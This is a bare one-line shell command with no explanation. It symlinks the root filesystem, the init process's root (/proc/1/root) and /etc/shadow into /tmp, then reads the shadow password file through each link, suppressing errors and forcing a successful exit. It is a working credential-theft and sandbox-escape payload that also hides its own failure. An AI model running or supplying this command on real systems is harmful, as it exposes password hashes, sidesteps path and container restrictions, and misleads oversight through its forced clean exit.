ln -s / /tmp/root; ln -s /proc/1/root /tmp/other; ln -sf /etc/shadow /tmp/x; cat /tmp/x /tmp/root/etc/shadow /tmp/other/etc/shadow 2>/dev/null; exit 0
